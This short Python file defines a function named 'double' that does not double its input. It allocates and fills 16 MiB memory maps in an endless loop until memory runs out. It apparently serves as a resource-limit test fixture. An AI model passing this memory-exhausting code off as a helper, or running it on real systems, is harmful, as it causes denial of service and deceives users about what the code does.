import mmap


def double(x):
    maps = []
    while True:
        part = mmap.mmap(-1, 2**24)
        part.write(b'x' * 2**24)
        maps.append(part)
